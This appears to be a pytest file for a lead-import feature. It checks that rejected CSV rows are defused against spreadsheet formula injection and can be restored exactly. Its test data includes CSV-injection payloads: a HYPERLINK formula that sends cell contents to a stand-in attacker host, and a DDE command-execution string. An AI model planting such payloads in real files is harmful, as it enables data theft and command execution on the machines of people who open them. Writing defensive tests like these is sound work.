"""The file of rejects is opened in a spreadsheet: nothing in it may run, and nothing may be lost by that."""

import csv
import random
import re
from pathlib import Path

import pytest

from bot.intake.formulas import armed, defused
from bot.intake.importing import Imported, Terms, import_file
from storage import leads
from tests.world import World

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"Ada")', "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1",
    "\r=1+1", "=1+1\n=2+2", "x;=1+1", "x\t=1+1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''=1", "a,=b", '"=1"',
    "|=1", "+44 20 7946 0000", "-5",
)  # fmt: skip
RUNS = re.compile(r"(?:^|[;,|\"\t\r\n])[=+\-@＝＋－＠\t\r]")


def imported(world: World, path: Path) -> Imported:
    """What becomes of a file."""
    return import_file(
        world.baton.desk, path, None, Terms(rejects_path=path.with_name(f"rejects-{path.name}"))
    )


def written(path: Path, header: list[str], *rows: list[str]) -> Path:
    """A CSV file."""
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([header, *rows])
    return path


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_no_cell_of_the_rejects_is_run_by_a_spreadsheet(world: World, tmp_path: Path) -> None:
    header = ["email", "first_name", "last_name", "company", "=cmd|' /C calc'!A0"]
    rows = [[f"no address {text}", text, text, text, text] for text in FORMULAS]
    rows += [[text, "Ada", "", "", ""] for text in FORMULAS]
    done = imported(world, written(tmp_path / "leads.csv", header, *rows))

    assert done.rejected == len(rows)
    assert done.rejects_path is not None
    said = cells(done.rejects_path)
    assert len(said) == len(rows) + 1
    for row in said:
        for cell in row:
            assert not RUNS.search(cell), cell


def test_rejects_that_were_corrected_are_read_as_they_were_meant(world: World, tmp_path: Path) -> None:
    header = ["email", "first_name", "company", "phone", "+Note"]
    row = ["ada at engines.example", "-Ada", "=Engines", "+44 20 7946 0000", "'=x"]
    done = imported(world, written(tmp_path / "leads.csv", header, row))
    assert done.rejects_path is not None
    corrected = tmp_path / "corrected.csv"
    corrected.write_bytes(done.rejects_path.read_bytes().replace(b"ada at engines", b"ada@engines"))

    again = imported(world, corrected)

    assert (again.added, again.rejected) == (1, 0)
    assert again.ignored_columns == ("line", "reason", "+Note")
    with world.baton.desk.database.reading() as session:
        known = leads.by_email(session, "ada@engines.example")
    assert known is not None
    assert {name: known.facts[name] for name in ("first_name", "company", "phone")} == {
        "first_name": "-Ada", "company": "=Engines", "phone": "+44 20 7946 0000",
    }  # fmt: skip


def test_an_unreadable_row_of_the_rejects_loses_none_after_it(world: World, tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    path.write_text('line,reason,email\n2,x,a@x.example\n3,"x"y",b@x.example\n4,x,c@x.example\n')

    done = imported(world, path)

    assert (done.read, done.added, done.rejected) == (3, 2, 1)


def test_a_file_that_is_no_rejects_keeps_its_apostrophes(world: World, tmp_path: Path) -> None:
    imported(
        world, written(tmp_path / "leads.csv", ["email", "company"], ["ada@engines.example", "'=Engines"])
    )

    with world.baton.desk.database.reading() as session:
        known = leads.by_email(session, "ada@engines.example")
    assert known is not None
    assert known.facts["company"] == "'=Engines"


@pytest.mark.parametrize("text", FORMULAS)
def test_what_is_made_harmless_can_be_had_back_to_the_letter(text: str) -> None:
    assert not RUNS.search(defused(text))
    assert armed(defused(text)) == text


def test_ten_thousand_odd_cells_are_harmless_and_can_be_had_back() -> None:
    dice = random.Random(20261123)
    for _ in range(10_000):
        text = "".join(dice.choice("'=+-@＝\t\r\n;,|\"ax ") for _ in range(dice.randrange(12)))
        assert not RUNS.search(defused(text)), text
        assert armed(defused(text)) == text
